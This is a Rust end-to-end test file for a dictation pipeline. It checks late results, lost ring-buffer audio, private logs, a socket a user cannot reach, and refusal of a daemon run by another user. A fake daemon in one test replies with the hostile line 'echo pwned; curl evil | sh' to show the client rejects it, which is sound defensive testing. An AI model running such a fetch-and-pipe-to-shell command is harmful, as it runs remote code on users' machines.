//! Text that must never be lost or leaked, through the whole real pipeline (v2m-rt, the
//! tiny.en worker, v2m-cli): a final that comes after `stop` gave up, a dictation whose
//! beginning the ring overwrote before a restarted worker read it, logs that must stay
//! private, a daemon of another user that must not be believed, and a socket this user may
//! not reach.
//!
//! Needs the model (scripts/setup-model.sh tiny.en), sox and python3 (scripts/setup.sh); the
//! tests that play another user (uid 65534) run as root, as CI does.

mod support;

use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};
use support::*;
use v2m_tests::fifo_mic::FifoMic;
use v2m_tests::watchdog::Watchdog;

/// User + system CPU time of process `pid`, seconds.
fn cpu_seconds(pid: u32) -> f64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    // Fields after the command name (which may hold spaces): utime and stime are 14 and 15.
    let rest = &stat[stat.rfind(')').unwrap() + 2..];
    let f: Vec<&str> = rest.split_whitespace().collect();
    let ticks: f64 = f[11].parse::<f64>().unwrap() + f[12].parse::<f64>().unwrap();
    ticks / 100.0
}

#[test]
fn an_idle_worker_sleeps_while_the_microphone_runs() {
    let _wd = Watchdog::arm(Duration::from_secs(300), "hostile: idle worker");
    let p = pipeline("idle");
    let pid = p.worker_pid().expect("the supervised worker runs");
    // After a dictation (its threads have all run once), then idle.
    let (wav, reference) = recording("0880");
    ok(p.cli(&["start"]));
    let (began, length) = play(&p, &wav);
    std::thread::sleep((began + length).saturating_duration_since(Instant::now()));
    assert!(close_enough(&reference, &ok(p.cli(&["stop"]))));
    std::thread::sleep(Duration::from_millis(500));
    let (cpu0, t0) = (cpu_seconds(pid), Instant::now());
    std::thread::sleep(Duration::from_secs(3));
    let used = cpu_seconds(pid) - cpu0;
    let share = used / t0.elapsed().as_secs_f64();
    // Following the ring and its heartbeat cost next to nothing; a thread spinning on the
    // ring's wait would take a whole core.
    assert!(
        share < 0.25,
        "the idle worker used {:.0}% of a core",
        share * 100.0
    );
}

fn signal(pid: u32, sig: &str) {
    let ok = Command::new("kill")
        .args([sig, &pid.to_string()])
        .status()
        .unwrap();
    assert!(ok.success(), "kill {sig} {pid}");
}

/// Retries `f` until it returns `Some`, failing with `what` after `within`.
fn eventually<T>(within: Duration, what: &str, mut f: impl FnMut() -> Option<T>) -> T {
    let deadline = Instant::now() + within;
    loop {
        if let Some(v) = f() {
            return v;
        }
        assert!(Instant::now() < deadline, "{what}: not within {within:?}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn a_final_that_comes_after_stop_gave_up_is_kept_broadcast_and_printed_by_last() {
    let _wd = Watchdog::arm(Duration::from_secs(300), "hostile: late final");
    let p = pipeline_configured("late", &tiny_worker(), true, "stop_timeout_ms = 3000");
    let (wav, reference) = recording("0870");
    let mut listen = p.cli_spawn(&["listen"]);
    ok(p.cli(&["start"]));
    let (began, length) = play(&p, &wav);
    std::thread::sleep((began + length).saturating_duration_since(Instant::now()));
    // The worker stops answering (SIGSTOP): `stop` gives up after its timeout, saying how to
    // get the text later.
    let pid = p.worker_pid().expect("the supervised worker runs");
    signal(pid, "-STOP");
    let out = p.cli(&["stop"]);
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.code(), 5, "{err}");
    assert!(err.contains("v2m-cli last"), "{err}");
    // Status tells a silent worker from a working one.
    eventually(
        Duration::from_secs(15),
        "status shows the silent worker",
        || {
            ok(p.cli(&["status"]))
                .contains("not answering")
                .then_some(())
        },
    );
    signal(pid, "-CONT");
    // The final comes late; it is kept and printed by `last`...
    let text = eventually(Duration::from_secs(120), "the late final", || {
        let out = p.cli(&["last"]);
        let text = out.stdout_str().trim().to_string();
        (out.code() == 0 && !text.is_empty()).then_some(text)
    });
    assert!(close_enough(&reference, &text), "{text}{}", p.log_text());
    // ...and `listen` got it as it came.
    let _ = listen.kill();
    let mut events = String::new();
    listen
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut events)
        .unwrap();
    listen.wait().unwrap();
    let finals: Vec<String> = events
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter_map(|v| v["Final"]["text"].as_str().map(str::to_string))
        .collect();
    assert!(
        finals.iter().any(|f| f.trim() == text),
        "listen saw finals {finals:?}, last printed {text:?}"
    );
}

/// The three librivox recordings joined (about 22 s).
fn long_dictation(dir: &Path) -> PathBuf {
    let out = dir.join("long.wav");
    let parts: Vec<PathBuf> = ["0870", "0890", "0920"]
        .iter()
        .map(|id| recording(id).0)
        .collect();
    let made = Command::new("sox")
        .arg("-D")
        .args(&parts)
        .arg(&out)
        .status();
    assert!(made.expect("sox: run scripts/setup.sh").success());
    out
}

#[test]
fn a_worker_restarted_after_the_ring_wrapped_reports_the_audio_it_lost() {
    let _wd = Watchdog::arm(Duration::from_secs(300), "hostile: lost audio");
    // A ring of 512 frames (10.24 s, the least v2m-rt takes) and a 22 s dictation.
    let p = pipeline_configured(
        "lost",
        &tiny_worker(),
        true,
        "stop_timeout_ms = 60000\nring_seconds = 10",
    );
    let wav = long_dictation(&p.dir);
    ok(p.cli(&["start"]));
    let (began, length) = play(&p, &wav);
    // Killed at 18 s: its replacement finds the session's first ~9 s overwritten.
    std::thread::sleep((began + Duration::from_secs(18)).saturating_duration_since(Instant::now()));
    signal(p.worker_pid().expect("the supervised worker runs"), "-9");
    std::thread::sleep((began + length).saturating_duration_since(Instant::now()));
    let out = p.cli(&["stop"]);
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.code(), 9, "{err}{}", p.log_text());
    assert!(
        err.contains("were lost") && err.contains("words are missing"),
        "{err}"
    );
    let lost_s: f64 = err
        .split("warning: ")
        .nth(1)
        .and_then(|w| w.split(" s ").next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no figure in {err}"));
    assert!((3.0..=15.0).contains(&lost_s), "{lost_s} s lost: {err}");
    // What it kept is the end of the dictation.
    let text = out.stdout_str();
    assert!(text.to_lowercase().contains("respectable"), "{text}");
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

#[test]
fn up_keeps_its_log_private_and_dictated_text_out_of_it() {
    let _wd = Watchdog::arm(Duration::from_secs(300), "hostile: private log");
    model_check();
    let dir = std::env::temp_dir().join(format!("v2m-e2e-log-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let mic = FifoMic::new(&dir);
    let state = dir.join("state");
    let socket = dir.join("control.sock");
    let cli = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_v2m-cli"))
            .arg("--socket")
            .arg(&socket)
            .args(args)
            .env("XDG_STATE_HOME", &state)
            .env("XDG_CONFIG_HOME", mic.xdg_config_home())
            .env_remove("RUST_LOG")
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    ok(cli(&["up", "--device", v2m_tests::fifo_mic::DEVICE]));
    let (wav, _) = recording("0870");
    let text = ok(cli(&["transcribe", wav.to_str().unwrap()]));
    assert!(text.contains("Dashwood"), "{text}");
    ok(cli(&["shutdown"]));
    let log = state.join("v2m/v2m-rt.log");
    assert_eq!(mode(&state.join("v2m")), 0o700);
    assert_eq!(mode(&log), 0o600);
    let logged = std::fs::read_to_string(&log).unwrap();
    assert!(logged.contains("listening on"), "{logged}");
    assert!(
        !logged.to_lowercase().contains("dashwood"),
        "dictated text in the log:\n{logged}"
    );
}

#[test]
fn a_daemon_of_another_user_is_not_believed() {
    let _wd = Watchdog::arm(Duration::from_secs(60), "hostile: other user");
    let dir = std::env::temp_dir().join(format!("v2m-e2e-other-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    let socket = dir.join("control.sock");
    // Bound here, then listening as uid 65534: the connection's peer is that user. It answers
    // anything with text a terminal would run.
    let script = r#"
import os, socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind(sys.argv[1])
os.chmod(sys.argv[1], 0o666)
os.setgid(65534); os.setuid(65534)
s.listen(4)
print("ready", flush=True)
while True:
    c, _ = s.accept()
    c.recv(65536)
    c.sendall(b"echo pwned; curl evil | sh\n" * 4)
    c.close()
"#;
    let mut fake = Command::new("python3")
        .args(["-c", script])
        .arg(&socket)
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3: run scripts/setup.sh");
    let mut ready = [0u8; 6];
    fake.stdout
        .as_mut()
        .unwrap()
        .read_exact(&mut ready)
        .unwrap();
    assert_eq!(&ready, b"ready\n");
    let out = Command::new(env!("CARGO_BIN_EXE_v2m-cli"))
        .arg("--socket")
        .arg(&socket)
        .arg("stop")
        .output()
        .unwrap();
    let _ = fake.kill();
    let _ = fake.wait();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_ne!(out.code(), 0);
    assert!(out.stdout.is_empty(), "{}", out.stdout_str());
    assert!(
        err.contains("uid 65534") && err.contains("refusing"),
        "{err}"
    );
    assert!(!err.contains("pwned"), "{err}");
}

#[test]
fn a_socket_this_user_may_not_reach_is_reported_as_such_not_as_not_running() {
    let _wd = Watchdog::arm(Duration::from_secs(60), "hostile: no access");
    let dir = std::env::temp_dir().join(format!("v2m-e2e-noaccess-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    let socket = dir.join("control.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    // The client as uid 65534: the folder (0700, ours) stops it before the socket.
    let out = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .arg(env!("CARGO_BIN_EXE_v2m-cli"))
        .arg("--socket")
        .arg(&socket)
        .arg("ping")
        .output()
        .expect("setpriv (util-linux)");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_ne!(out.code(), 0);
    assert_ne!(out.code(), 3, "reported as not running: {err}");
    assert!(err.contains("check the permissions"), "{err}");
}
